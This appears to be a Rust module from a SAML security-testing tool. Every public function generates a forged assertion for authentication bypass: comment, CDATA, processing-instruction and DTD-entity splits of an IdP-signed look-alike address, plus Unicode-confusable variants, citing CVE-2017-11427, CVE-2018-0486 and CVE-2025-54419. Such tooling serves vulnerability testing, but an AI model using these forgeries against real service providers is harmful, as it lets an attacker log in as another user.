//! Text and canonicalization: the IdP signs the attacker's own look-alike account
//! (`admin@contoso.com.evil.test`), then a comment or CDATA boundary is placed so that exclusive
//! C14N (and so the signature) is unchanged while a consumer reading only the first text node
//! sees the target (`admin@contoso.com`); or a processing instruction that only a flawed
//! canonicalizer writes as plain text. The `normalise` edits sign a look-alike that only
//! an SP normalising identifiers (NFKC, nameprep, Unicode trimming) maps to the target.

use crate::bytes::{splice, Doc};
use crate::crypto::idp_resign;
use crate::forge::{Forge, Forged, Skip};
use crate::identity::{self, is_identity_claim, Swap};
use saml_protocol::ASSERTION_NS;

/// The domain suffix that makes the attacker's account look like the target.
const LOOKALIKE_SUFFIX: &str = ".evil.test";

/// The suffix of the look-alike at the place a check does not cut (the claims when it cuts
/// NameID, and the other way round), left whole: a session showing it was mapped from there,
/// so how the SP reads the cut place cannot be seen.
const WHOLE_SUFFIX: &str = ".whole.evil.test";

/// Where to cut identity values.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    NameId,
    Claims,
}

/// The seed re-issued by the IdP for the attacker's look-alike account, then `split` applied
/// to each chosen value at the end of the target part.
fn lookalike(f: &Forge, place: Place, split: fn(&str) -> String) -> Result<Forged, Skip> {
    let key = f.idp_key()?;
    let doc = Doc::parse(f.seed)?;
    let target = identity::forger(&doc);
    let (edits, _) = identity::rewrite_edits(&doc, 0..doc.src.len(), &|v| {
        let t = target(v);
        if t.contains('@') {
            format!("{t}{LOOKALIKE_SUFFIX}")
        } else {
            v.to_owned()
        }
    });
    let account = splice(doc.src, edits);
    let (account, untouched) = set_apart(&account, place)?;
    let signed = idp_resign(&account, key)?;
    let doc = Doc::parse_built(&signed)?;
    let mut swap = Swap {
        untouched,
        ..Swap::default()
    };
    let mut edits = Vec::new();
    for text in doc.tree.descendants().filter(|n| n.is_text()) {
        let value = text.text().unwrap_or_default();
        let Some(target) = value.strip_suffix(LOOKALIKE_SUFFIX) else {
            continue;
        };
        if !at(text, place) {
            continue;
        }
        if !swap.genuine.iter().any(|g| g == value) {
            swap.genuine.push(value.to_owned());
            swap.forged.push(target.to_owned());
        }
        edits.push((text.range(), split(target)));
    }
    if edits.is_empty() {
        return Err(Skip::NotApplicable(
            "the seed has no e-mail-shaped identity value to imitate".into(),
        ));
    }
    Ok(Forged {
        xml: splice(&signed, edits),
        swap,
        served: Vec::new(),
        local_file: None,
    })
}

/// Whether the text node `text` is an identity value at `place`.
fn at(text: roxmltree::Node, place: Place) -> bool {
    let Some(parent) = text.parent_element() else {
        return false;
    };
    match place {
        Place::NameId => parent.has_tag_name((ASSERTION_NS, "NameID")),
        Place::Claims => {
            parent.has_tag_name((ASSERTION_NS, "AttributeValue"))
                && parent
                    .parent_element()
                    .and_then(|a| a.attribute("Name"))
                    .is_some_and(is_identity_claim)
        }
    }
}

/// `account` with each look-alike outside `place` given the [`WHOLE_SUFFIX`] instead, and
/// those values: an oracle that reads one of them shows that, not a verdict on `place`.
fn set_apart(account: &str, place: Place) -> Result<(String, Vec<String>), Skip> {
    let doc = Doc::parse_built(account)?;
    let mut whole = Vec::new();
    let mut edits = Vec::new();
    for text in doc.tree.descendants().filter(|n| n.is_text()) {
        let value = text.text().unwrap_or_default();
        let Some(target) = value.strip_suffix(LOOKALIKE_SUFFIX) else {
            continue;
        };
        if at(text, place) {
            continue;
        }
        let apart = format!("{target}{WHOLE_SUFFIX}");
        if !whole.contains(&apart) {
            whole.push(apart.clone());
        }
        edits.push((text.range(), apart));
    }
    Ok((splice(account, edits), whole))
}

fn comment(target: &str) -> String {
    format!("{target}<!---->{LOOKALIKE_SUFFIX}")
}

fn cdata(target: &str) -> String {
    format!("<![CDATA[{target}]]>{LOOKALIKE_SUFFIX}")
}

/// `admin@contoso.com<?x .evil.test?>`: a canonicalizer that writes a processing instruction
/// as its data alone (xml-crypto, under node-saml < 5.1.0) digests the look-alike the IdP
/// signed, and a reader that drops processing instructions sees the target. Exclusive C14N
/// keeps the instruction, so a careful SP finds the digest broken.
fn processing_instruction(target: &str) -> String {
    format!("{target}<?x {LOOKALIKE_SUFFIX}?>")
}

/// `processing_instruction` in NameID (CVE-2025-54419).
pub fn pi_name_id(f: &Forge) -> Result<Forged, Skip> {
    lookalike(f, Place::NameId, processing_instruction)
}

/// `processing_instruction` in the e-mail and name claims (CVE-2025-54419, for an SP that
/// maps accounts from a claim).
pub fn pi_claims(f: &Forge) -> Result<Forged, Skip> {
    lookalike(f, Place::Claims, processing_instruction)
}

/// `admin@contoso.com<!---->.evil.test` in NameID (CVE-2017-11427 family).
pub fn comment_name_id(f: &Forge) -> Result<Forged, Skip> {
    lookalike(f, Place::NameId, comment)
}

/// The same comment in the identity claims (emailaddress, name/UPN).
pub fn comment_claims(f: &Forge) -> Result<Forged, Skip> {
    lookalike(f, Place::Claims, comment)
}

/// `<![CDATA[admin@contoso.com]]>.evil.test` in NameID.
pub fn cdata_name_id(f: &Forge) -> Result<Forged, Skip> {
    lookalike(f, Place::NameId, cdata)
}

/// The entity whose replacement text is the look-alike suffix.
const SUFFIX_ENTITY: &str = "lookalike";

/// `admin@contoso.com&lookalike;` in NameID, the entity declared as `.evil.test` in an
/// internal DTD: C14N expands it (the signature holds), a reader that skips entity-reference
/// nodes sees the target (Shibboleth CVE-2018-0486).
pub fn entity_name_id(f: &Forge) -> Result<Forged, Skip> {
    with_entity(f, Place::NameId)
}

/// The same entity in the identity claims (emailaddress, name/UPN).
pub fn entity_claims(f: &Forge) -> Result<Forged, Skip> {
    with_entity(f, Place::Claims)
}

/// `cdata` in the identity claims.
pub fn cdata_claims(f: &Forge) -> Result<Forged, Skip> {
    lookalike(f, Place::Claims, cdata)
}

/// The look-alike cut by an entity reference at `place`, the entity declared in a DOCTYPE.
fn with_entity(f: &Forge, place: Place) -> Result<Forged, Skip> {
    let forged = lookalike(f, place, |target| format!("{target}&{SUFFIX_ENTITY};"))?;
    let body = crate::family::xsw::embeddable(&forged.xml);
    let seed = Doc::parse(f.seed)?;
    let root = crate::bytes::qualified_name(seed.src, seed.root());
    Ok(Forged {
        xml: format!("<!DOCTYPE {root} [<!ENTITY {SUFFIX_ENTITY} \"{LOOKALIKE_SUFFIX}\">]>{body}"),
        swap: forged.swap,
        served: Vec::new(),
        local_file: None,
    })
}

/// The seed re-issued by the IdP for a look-alike account whose every e-mail-shaped identity
/// value is `disguise(target)`: byte-different from the target, the same after the
/// normalisation an account lookup might apply.
fn confusable(f: &Forge, disguise: fn(&str) -> String) -> Result<Forged, Skip> {
    let key = f.idp_key()?;
    let doc = Doc::parse(f.seed)?;
    let target = identity::forger(&doc);
    let mut swap = Swap::default();
    for value in identity::values(&doc) {
        let t = target(&value);
        if t.contains('@') && !swap.forged.contains(&t) {
            swap.genuine.push(disguise(&t));
            swap.forged.push(t);
        }
    }
    if swap.forged.is_empty() {
        return Err(Skip::NotApplicable(
            "the seed has no e-mail-shaped identity value to imitate".into(),
        ));
    }
    let (edits, _) = identity::rewrite_edits(&doc, 0..doc.src.len(), &|v| {
        let t = target(v);
        if t.contains('@') {
            disguise(&t)
        } else {
            v.to_owned()
        }
    });
    Ok(Forged {
        xml: idp_resign(&splice(doc.src, edits), key)?,
        swap,
        served: Vec::new(),
        local_file: None,
    })
}

/// `admin@contoso.com` followed by a no-break space (U+00A0), which Unicode-aware trimming
/// (Python's `str.strip`, .NET's `Trim`) and NFKC remove or turn into a space.
pub fn normalise_nbsp(f: &Forge) -> Result<Forged, Skip> {
    confusable(f, |t| format!("{t}\u{a0}"))
}

/// `admin@\u{200b}contoso.com`: a zero-width space that IDNA2003 nameprep maps to nothing
/// (RFC 3454 table B.1), as domain normalisation does.
pub fn normalise_zero_width(f: &Forge) -> Result<Forged, Skip> {
    confusable(f, |t| t.replacen('@', "@\u{200b}", 1))
}

/// The local part in fullwidth forms (`ａｄｍｉｎ@contoso.com`), which NFKC folds to ASCII
/// (Django's `normalize_username`, many account lookups).
pub fn normalise_fullwidth(f: &Forge) -> Result<Forged, Skip> {
    confusable(f, |t| {
        let (local, domain) = t.split_once('@').unwrap_or((t, ""));
        let wide: String = local
            .chars()
            .map(|c| match c {
                '!'..='~' => char::from_u32(c as u32 + 0xfee0).unwrap_or(c),
                _ => c,
            })
            .collect();
        format!("{wide}@{domain}")
    })
}
